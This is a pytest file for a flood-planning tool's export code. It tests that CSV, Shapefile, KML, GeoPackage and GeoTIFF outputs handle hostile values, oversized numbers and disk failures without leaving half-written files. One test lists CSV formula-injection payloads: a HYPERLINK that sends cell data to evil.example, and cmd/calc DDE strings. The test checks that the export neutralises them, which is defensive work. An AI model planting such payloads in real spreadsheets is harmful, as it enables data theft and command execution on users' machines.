"""Hostile values and failing disks on the output side: every export refuses cleanly or writes
what it says, never a half-done or misleading file (issue 13; the input files are in
``test_hostile_inputs.py``).

Every test runs with Python's temporary folder redirected to an empty one of its own and
checks at the end that nothing was left there; output folders are checked file by file.
Expected values are written out by hand or computed with rasterio/csv in the test.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import sqlite3
import tempfile
import warnings
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import rasterio
from rasterio.transform import from_origin
from rasterio.windows import Window
from shapely.geometry import Point, Polygon

from geo import export as ex
from geo.analysis import Parameters, PlanningRun, area_from_bbox
from geo.errors import CrecidaWarning, InputError, OutputError
from geo.export import dispatch
from geo.export import raster as raster_mod
from geo.export.vector import DBF_MAX_ABS, DBF_TEXT_BYTES
from geo.flood import open_flood
from geo.inputs import load_sample
from geo.io import files as atomic_mod
from geo.provenance import build_provenance

KML = "{http://www.opengis.net/kml/2.2}"


# --- Fixtures -------------------------------------------------------------------------------------
@pytest.fixture(autouse=True)
def _nothing_left_in_temp(clean_temp):
    """Every test here leaves Python's temp folder empty (conftest's ``clean_temp``)."""
    return clean_temp


@pytest.fixture
def prov():
    return build_provenance({}, scenario="118.6 m", is_sample=True)


@pytest.fixture
def centres(tiny_centres) -> gpd.GeoDataFrame:
    frame = tiny_centres.copy()
    frame["scenario"] = "118.6 m"
    frame["depth_m"] = [0.0, 0.3, 1.0, 2.0]
    frame["flood_status"] = ["dry", "flooded", "flooded", "flooded"]
    return frame


@pytest.fixture
def flood(write_tif, tiny_depth):
    return open_flood(write_tif(tiny_depth, "depth.tif"), name="118.6 m", kind="depth")


@pytest.fixture(scope="module")
def sample_run():
    return PlanningRun(load_sample())


def _names(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


# --- CSV: formula injection (OWASP) ---------------------------------------------------------------
@pytest.mark.parametrize("payload", [
    '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_csv_neutralises_formula_cells(tmp_path, centres, prov, payload):
    centres.loc[1, "name"] = payload
    centres.loc[2, "centre_id"] = payload
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.csv", provenance=prov)
    header, _tags, *rows = _csv_rows(out)
    by = dict(zip(header, zip(*rows, strict=True), strict=True))
    assert by["name"][1] == "'" + payload and by["centre_id"][2] == "'" + payload
    # Computed numbers stay numbers: negative latitudes and longitudes are not touched.
    assert by["lat"][0].startswith("-") and float(by["lat"][0]) == pytest.approx(
        centres.geometry.y.iloc[0], abs=1e-7)
    assert by["name"][0] == centres.loc[0, "name"]  # ordinary text unchanged


def test_csv_keeps_plain_numbers_as_text_and_neutralises_headers(tmp_path, centres, prov):
    centres["centre_id"] = ["-12", "+51", "0", "c4"]
    centres["=cmd|' /C calc'!A0"] = "x"
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.csv", provenance=prov)
    header, _tags, *rows = _csv_rows(out)
    assert [r[header.index("centre_id")] for r in rows] == ["-12", "+51", "0", "c4"]
    assert "'=cmd|' /C calc'!A0" in header


def test_csv_zip_of_several_layers_is_neutralised_and_says_so(tmp_path, centres, prov):
    centres.loc[0, "name"] = "=1+1"
    out = ex.export({"centres_exposure": centres, "other": centres}, tmp_path / "c.csv",
                    provenance=prov)
    with zipfile.ZipFile(out) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("other.csv").decode("utf-8-sig"))))
        readme = zf.read("README.txt").decode()
    assert rows[2][rows[0].index("name")] == "'=1+1"
    assert "leading '" in readme


# --- Shapefile: text and numbers a dBase file cannot hold -----------------------------------------
@pytest.mark.parametrize("text", ["A" * 300, "Ñ" * 200, "é" * 127 + "x"],
                         ids=["ascii-300", "utf8-400-bytes", "utf8-255-bytes"])
def test_shapefile_long_text_is_cut_with_a_warning_and_kept_whole(tmp_path, centres, prov,
                                                                   text):
    centres.loc[2, "name"] = text
    warned = r"centres_exposure, column 'name': 1 text value\(s\) longer than the 254 bytes"
    with pytest.warns(CrecidaWarning, match=warned):
        out = ex.export({"centres_exposure": centres}, tmp_path / "c.shp.zip",
                        provenance=prov)
    back = pyogrio.read_dataframe(f"/vsizip/{out}/centres_exposure.shp")
    cut = back["name"].iloc[2]
    assert cut.endswith("…") and len(cut.encode()) <= DBF_TEXT_BYTES
    assert text.startswith(cut[:-1]) and len(cut.encode()) > DBF_TEXT_BYTES - 6
    with zipfile.ZipFile(out) as zf:
        side = list(csv.reader(io.StringIO(zf.read("long_text.csv").decode())))
        readme = zf.read("README.txt").decode()
    assert side == [["layer", "feature", "field", "shapefile_field", "text"],
                    ["centres_exposure", "3", "name", "name", text]]
    assert "centres_exposure.name: 1 value(s)" in readme
    assert list(back["name"].iloc[[0, 1, 3]]) == list(centres["name"].iloc[[0, 1, 3]])


def test_shapefile_text_of_exactly_254_bytes_is_kept_without_warning(tmp_path, centres, prov):
    centres.loc[0, "name"] = "ñ" * 127  # 254 bytes
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.shp.zip", provenance=prov)
    assert pyogrio.read_dataframe(f"/vsizip/{out}/centres_exposure.shp")["name"].iloc[0] == \
        "ñ" * 127
    with zipfile.ZipFile(out) as zf:
        assert "long_text.csv" not in zf.namelist()


@pytest.mark.parametrize("value", [1e300, -1e20, DBF_MAX_ABS * 10])
def test_shapefile_refuses_numbers_it_cannot_hold_and_keeps_the_old_file(tmp_path, centres,
                                                                          prov, value):
    out = tmp_path / "c.shp.zip"
    out.write_bytes(b"old")
    centres["depth_m"] = [0.0, value, 1.0, 2.0]
    with pytest.raises(InputError) as err:
        ex.export({"centres_exposure": centres}, out, provenance=prov)
    problem, = err.value.problems
    assert (problem.source, problem.row, problem.column) == ("centres_exposure", 2, "depth_m")
    assert ".gpkg" in problem.fix
    assert out.read_bytes() == b"old" and _names(tmp_path) == ["c.shp.zip", "system_temp"]


def test_shapefile_field_names_are_cut_by_bytes_not_characters(tmp_path, centres, prov):
    centres["población_total"] = [1, 2, 3, 4]
    centres["áéíóúñ_más"] = [5, 6, 7, 8]
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.shp.zip", provenance=prov)
    back = pyogrio.read_dataframe(f"/vsizip/{out}/centres_exposure.shp")
    assert list(back["población"]) == [1, 2, 3, 4]  # 10 bytes: "población" is 9 letters
    assert list(back["áéíóú"]) == [5, 6, 7, 8]
    with zipfile.ZipFile(out) as zf:
        fields = list(csv.reader(io.StringIO(zf.read("fields.csv").decode())))
    assert ["centres_exposure", "población_total", "población"] in fields


# --- KML: typed attributes that read back typed ---------------------------------------------------
def test_kml_attributes_read_back_with_their_types(tmp_path, centres, prov):
    centres["access_cut"] = [False, True, False, True]
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.kml", provenance=prov)
    back = pyogrio.read_dataframe(out)
    assert list(back["Name"]) == list(centres["name"])
    assert "name2" not in back.columns and "name" not in back.columns
    assert back["persons"].dtype.kind == "i" and list(back["persons"]) == [47, 94, 141, 188]
    assert back["depth_m"].dtype.kind == "f" and list(back["depth_m"]) == [0.0, 0.3, 1.0, 2.0]
    assert back["access_cut"].dtype == bool and list(back["access_cut"]) == [
        False, True, False, True]
    assert list(back["centre_id"]) == ["c1", "c2", "c3", "c4"]
    capacity = back["capacity_persons"]
    assert [None if pd.isna(v) else int(v) for v in capacity] == [100, None, 200, 400]


def test_kml_columns_named_like_placemark_fields_get_a_suffix(tmp_path, centres, prov):
    centres["description"] = ["uno", "dos", "tres", "cuatro"]
    centres["id"] = [7, 8, 9, 10]
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.kml", provenance=prov)
    back = pyogrio.read_dataframe(out)
    assert list(back["description_attr"]) == ["uno", "dos", "tres", "cuatro"]
    assert list(back["id_attr"]) == [7, 8, 9, 10]
    assert "<table>" in back["description"].iloc[0]  # the balloon, not the data


def test_kml_large_whole_numbers_are_doubles(tmp_path, centres, prov):
    centres["population_total"] = pd.array([3_000_000_000, 1, 2, 3], dtype="int64")
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.kml", provenance=prov)
    schema = ET.parse(out).getroot().find(f"{KML}Document/{KML}Schema")
    types = {f.get("name"): f.get("type") for f in schema.iter(f"{KML}SimpleField")}
    assert types["population_total"] == "double"
    assert list(pyogrio.read_dataframe(out)["population_total"]) == [3e9, 1, 2, 3]


# --- A GeoPackage and its GeoTIFF: both or neither ------------------------------------------------
def _old_pair(folder: Path) -> tuple[Path, Path]:
    gpkg, tif = folder / "brief.gpkg", folder / "brief_flood_depth.tif"
    gpkg.write_bytes(b"old gpkg")
    tif.write_bytes(b"old tif")
    return gpkg, tif


def test_failed_companion_tif_leaves_the_old_gpkg_and_tif(tmp_path, centres, flood, prov,
                                                          monkeypatch):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    gpkg, tif = _old_pair(out_dir)

    def full_disk(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(dispatch, "write_classified_depth_to", full_disk)
    with pytest.raises(OutputError) as err:
        ex.export({"centres_exposure": centres}, gpkg, provenance=prov, flood=flood)
    assert str(gpkg) in str(err.value) and os.strerror(errno.ENOSPC) in str(err.value)
    assert gpkg.read_bytes() == b"old gpkg" and tif.read_bytes() == b"old tif"
    assert _names(out_dir) == ["brief.gpkg", "brief_flood_depth.tif"]


def test_failed_gpkg_leaves_the_old_pair(tmp_path, centres, flood, prov, monkeypatch):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    gpkg, tif = _old_pair(out_dir)

    def broken(*args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(dispatch, "write_gpkg", broken)
    with pytest.raises(OutputError, match="database or disk is full"):
        ex.export({"centres_exposure": centres}, gpkg, provenance=prov, flood=flood)
    assert gpkg.read_bytes() == b"old gpkg" and tif.read_bytes() == b"old tif"
    assert _names(out_dir) == ["brief.gpkg", "brief_flood_depth.tif"]


def test_a_failed_move_restores_every_old_file(tmp_path, centres, flood, prov, monkeypatch):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    gpkg, tif = _old_pair(out_dir)
    real_replace = os.replace
    moves: list[tuple[str, str]] = []

    def replace(src, dst):
        moves.append((Path(src).name, Path(dst).name))
        # Fail once: when the new GeoTIFF is moved into place, after the new GeoPackage was.
        if len(moves) == 4:
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        return real_replace(src, dst)

    monkeypatch.setattr(atomic_mod.os, "replace", replace)
    with pytest.raises(OutputError):
        ex.export({"centres_exposure": centres}, gpkg, provenance=prov, flood=flood)
    # Old files aside (2 moves), new GeoPackage in place (1), new GeoTIFF fails (1).
    assert [src for src, _dst in moves[:2]] == [gpkg.name, tif.name]
    assert [dst for _src, dst in moves[2:4]] == [gpkg.name, tif.name]
    assert gpkg.read_bytes() == b"old gpkg" and tif.read_bytes() == b"old tif"
    assert _names(out_dir) == ["brief.gpkg", "brief_flood_depth.tif"]


def test_gpkg_and_tif_are_replaced_together(tmp_path, centres, flood, prov):
    gpkg, tif = _old_pair(tmp_path)
    ex.export({"centres_exposure": centres}, gpkg, provenance=prov, flood=flood)
    assert gpkg.read_bytes()[:16] == b"SQLite format 3\x00"
    with rasterio.open(tif) as ds:
        assert ds.tags(ns="IMAGE_STRUCTURE")["LAYOUT"] == "COG"
    assert _names(tmp_path) == ["brief.gpkg", "brief_flood_depth.tif", "depth.tif",
                                "system_temp"]


# --- Output paths that cannot be written ----------------------------------------------------------
def test_read_only_folder_names_the_target_not_a_temporary_file(tmp_path, centres, prov,
                                                                 monkeypatch):
    out = tmp_path / "c.geojson"

    def denied(*args, **kwargs):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES),
                              str(tmp_path / ".c.x1y2.tmp.geojson"))

    monkeypatch.setattr(tempfile, "mkstemp", denied)
    with pytest.raises(OutputError) as err:
        ex.export({"centres_exposure": centres}, out, provenance=prov)
    message = err.value.text("es")
    assert f"no se pudo escribir {out}: {os.strerror(errno.EACCES)}" in message
    assert ".tmp" not in message and not out.exists()


@pytest.mark.parametrize("case", ["folder", "parent_is_a_file", "unknown_extension"])
def test_unusable_output_paths_are_refused_before_any_work(tmp_path, centres, prov, case,
                                                           monkeypatch):
    def no_work(*args, **kwargs):
        raise AssertionError("work started")

    monkeypatch.setattr(dispatch, "prepare_layers", no_work)
    if case == "folder":
        out, key = tmp_path / "x.gpkg", "output_is_folder"
        out.mkdir()
    elif case == "parent_is_a_file":
        (tmp_path / "afile").write_text("x")
        out, key = tmp_path / "afile" / "x.gpkg", "output_folder_unusable"
    else:
        out, key = tmp_path / "x.docx", "output_format_unknown"
    with pytest.raises(InputError) as err:
        ex.export({"centres_exposure": centres}, out, provenance=prov)
    assert [p.key for p in err.value.problems] == [key]


def test_a_truncated_geotiff_is_detected(tmp_path, flood, prov):
    out = ex.write_classified_depth(flood, tmp_path / "c.tif", provenance=prov)
    raster_mod.check_tiff_complete(out, label="c.tif")  # complete: no error
    data = out.read_bytes()
    cut = tmp_path / "cut.tif"
    cut.write_bytes(data[: len(data) - 40])
    with pytest.raises(OSError, match="incomplete"):
        raster_mod.check_tiff_complete(cut, label="cut.tif")


# --- Huge rasters: streamed in bounded windows, sparse blocks skipped -----------------------------
@pytest.fixture
def sparse_flood(tmp_path):
    """A 2048 × 3072 depth raster, tiled 256, written sparse: only two tiles hold data."""
    path = tmp_path / "sparse.tif"
    profile = {"driver": "GTiff", "width": 3072, "height": 2048, "count": 1,
               "dtype": "float32", "crs": "EPSG:32718", "nodata": -9999.0,
               "transform": from_origin(690_000, 9_590_000, 10, 10), "tiled": True,
               "blockxsize": 256, "blockysize": 256, "sparse_ok": True,
               "compress": "deflate"}
    tile = np.full((256, 256), 0.3, dtype="float32")
    tile[:128] = 2.0
    tile[:, :10] = 0.0
    with rasterio.open(path, "w", **profile) as ds:
        ds.write(tile, 1, window=Window(512, 256, 256, 256))
        ds.write(tile, 1, window=Window(2816, 1792, 256, 256))
    return open_flood(path, name="sparse", kind="depth")


def test_big_sparse_raster_is_classified_window_by_window(tmp_path, sparse_flood, prov,
                                                          monkeypatch):
    flood = sparse_flood
    monkeypatch.setattr(raster_mod, "CLASSIFY_WINDOW", (512, 1024))
    reads: list[tuple[int, int]] = []
    real_read = type(flood).read_depth_from

    def spy(self, ds, window=None, dem_ds=None):
        reads.append((int(window.height), int(window.width)))
        return real_read(self, ds, window, dem_ds)

    monkeypatch.setattr(type(flood), "read_depth_from", spy)
    calls: list[tuple[int, int]] = []
    out = ex.write_classified_depth(flood, tmp_path / "c.tif", provenance=prov,
                                    progress=lambda done, total, msg: calls.append((done, total)))
    # 4 × 3 windows of 512 × 1024 cells; only the two holding data are read.
    assert reads == [(512, 1024), (512, 1024)]
    assert calls[-1] == (13, 13) and [d for d, _ in calls] == sorted(d for d, _ in calls)
    expected = np.full((256, 256), 1, dtype="uint8")  # 0.3 m: class 1 (0.1–0.5 m) …
    expected[:128] = 3  # … 2 m: class 3 (over 1.5 m)
    expected[:, :10] = 0  # dry
    with rasterio.open(out) as ds:
        np.testing.assert_array_equal(ds.read(1, window=Window(512, 256, 256, 256)), expected)
        np.testing.assert_array_equal(ds.read(1, window=Window(2816, 1792, 256, 256)),
                                      expected)
        assert set(np.unique(ds.read(1, window=Window(0, 0, 512, 256)))) == {255}
        # Holes stay holes: no block is stored for the empty tile at the origin.
        assert ds.get_tag_item("BLOCK_OFFSET_0_0", "TIFF", bidx=1) is None


def test_flood_extent_of_a_big_raster_reads_at_most_the_cells_asked(sparse_flood, monkeypatch):
    flood = sparse_flood
    frame = ex.flood_extent_polygons(flood, max_cells=256, simplify_m=0)
    # 3072 × 2048 read as 256 × 171 cells of 120 m: each data tile becomes about 21 × 21 cells.
    assert set(frame["depth_class"]) == {1, 3}
    cell = 3072 / 256 * 10
    assert frame["area_m2"].sum() == pytest.approx(2 * (256 / 12 * 256 / 12) * cell**2,
                                                   rel=0.15)


# --- Parameters of the Python API -----------------------------------------------------------------
@pytest.mark.parametrize(("field", "value", "key"), [
    ("threshold_m", float("nan"), "parameter_not_finite"),
    ("threshold_m", float("inf"), "parameter_not_finite"),
    ("threshold_m", 0.0, "parameter_out_of_range"),
    ("threshold_m", -0.5, "parameter_out_of_range"),
    ("ring_radius_m", 1e300, "parameter_out_of_range"),
    ("service_distance_m", float("-inf"), "parameter_not_finite"),
    ("service_distance_m", "5000", "parameter_not_finite"),
    ("catchment_mode", "teleport", "parameter_not_a_choice"),
    ("respect_capacity", "yes", "parameter_not_bool"),
])
def test_parameters_refuse_values_that_would_mislead(field, value, key):
    with pytest.raises(InputError) as err:
        Parameters(**{field: value})
    assert [(p.source, p.key) for p in err.value.problems] == [(field, key)]


def test_parameters_list_every_problem_at_once():
    with pytest.raises(InputError) as err:
        Parameters(threshold_m=float("nan"), service_distance_m=0.0)
    assert [p.source for p in err.value.problems] == ["threshold_m", "service_distance_m"]
    assert err.value.text("es").startswith("2 problemas encontrados:")


def test_with_parameters_refuses_too(sample_run):
    with pytest.raises(InputError):
        sample_run.with_parameters(threshold_m=float("nan"))


@pytest.mark.parametrize("k", [0, -1, 2.5, float("nan"), True, 10**6])
def test_optimise_refuses_counts_that_are_not_a_number_of_sites(sample_run, k):
    with pytest.raises(InputError) as err:
        sample_run.optimise(k)
    assert err.value.problems[0].source == "k"


def test_evaluate_refuses_an_area_with_non_finite_coordinates(sample_run):
    with warnings.catch_warnings():  # shapely warns while building it
        warnings.simplefilter("ignore", RuntimeWarning)
        area = Polygon([(-73.25, -3.75), (-73.24, -3.75), (float("nan"), -3.74)])
    with pytest.raises(InputError, match="not finite"):
        sample_run.evaluate(area)


@pytest.mark.parametrize("bbox", [(float("nan"), -3.8, -73.2, -3.7),
                                  (-73.3, -3.8, float("inf"), -3.7),
                                  (-73.2, -3.8, -73.3, -3.7)])
def test_bbox_refuses_non_finite_or_reversed_bounds(bbox):
    with pytest.raises(InputError):
        area_from_bbox(*bbox)


# --- Notes of the inputs reach the provenance -----------------------------------------------------
def test_input_notes_are_stored_in_the_export_provenance(tmp_path):
    from geo.inputs import load_inputs

    sites = tmp_path / "sitios.csv"
    sites.write_text("codigo,nombre,latitud,longitud,personas\n"
                     "A1,Uno,-3.75,-73.25,10\nA1,Dos,-3.76,-73.26,20\n", encoding="utf-8")
    run = PlanningRun(load_inputs(centres=sites, with_sample=True))
    assert run.inputs.warnings  # duplicate ids made unique, with a note
    out = run.export(tmp_path / "b.csv.zip", include=["centres_exposure"])
    with zipfile.ZipFile(out) as zf:
        readme = zf.read("README.txt").decode()
    assert "Notes (fixed or assumed on the way):" in readme
    for note in run.inputs.warnings:
        assert str(note) in readme
    assert _names(tmp_path) == ["b.csv.zip", "sitios.csv", "system_temp"]


def test_the_provenance_of_a_geopackage_lists_the_notes(tmp_path, centres, prov):
    noted = build_provenance({}, notes=["sitios.csv: duplicate ids made unique: A1 → A1-2"])
    out = ex.export({"centres_exposure": centres}, tmp_path / "c.gpkg", provenance=noted)
    rows = dict(pyogrio.read_dataframe(out, layer="provenance", read_geometry=False)
                .itertuples(index=False, name=None))
    assert rows["note:1"] == "sitios.csv: duplicate ids made unique: A1 → A1-2"


def test_points_without_place_are_not_invented_in_csv(tmp_path, prov):
    frame = gpd.GeoDataFrame({"name": ["a", "b"]}, geometry=[Point(-73.2, -3.7), None],
                             crs=4326)
    out = ex.export({"new_sites": frame}, tmp_path / "s.csv", provenance=prov)
    _header, _tags, first, second = _csv_rows(out)
    assert second == ["b", "", ""]  # no coordinates rather than made-up ones
    assert first[0] == "a"
